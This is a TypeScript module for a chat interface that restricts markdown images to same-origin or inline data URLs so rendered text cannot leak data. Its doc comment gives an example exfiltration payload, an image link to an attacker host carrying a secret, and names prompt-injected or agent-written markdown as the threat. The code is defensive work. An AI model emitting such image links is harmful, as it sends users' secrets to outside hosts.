import { defaultUrlTransform, type UrlTransform } from "react-markdown";

// Relative URLs are resolved against this page to see where they would really go; the
// reserved .invalid name never belongs to anyone.
const SELF = "https://meridian.invalid";

/**
 * Whether a markdown image may load by itself: only same-origin relative URLs and inline
 * `data:image/` URLs. Any other source would tell its host that the text was viewed, and an
 * agent-written or prompt-injected `![](https://attacker/?d=secret)` would leak data.
 * A relative source is resolved by the URL parser, so `//host`, `\\host` and `/\host` tricks
 * resolve to the host they name.
 */
export function imageLoadsInline(src: string | null | undefined): boolean {
  // What the URL parser ignores: leading controls and spaces, tabs and newlines anywhere.
  // eslint-disable-next-line no-control-regex -- strips the C0 controls the URL parser ignores
  const cleaned = (src ?? "").replace(/[\t\n\r]/g, "").replace(/^[\u0000-\u0020]+/, "");
  if (!cleaned) return false;
  // Any scheme (`https:host` too, which is relative only on a page of that same scheme).
  if (/^[a-z][a-z\d+.-]*:/i.test(cleaned)) return /^data:image\//i.test(cleaned);
  try {
    return new URL(cleaned, `${SELF}/chat/`).origin === SELF;
  } catch {
    return false;
  }
}

/** The host an external image would come from (for its placeholder), or "" when it has none. */
export function imageHost(src: string | null | undefined): string {
  try {
    return src ? new URL(src).host : "";
  } catch {
    return "";
  }
}

/** react-markdown's URL sanitising, but keeping the image sources that load inline (it drops every `data:`). */
export const markdownUrlTransform: UrlTransform = (url, key, node) =>
  key === "src" && node.tagName === "img" && imageLoadsInline(url) ? url : defaultUrlTransform(url);
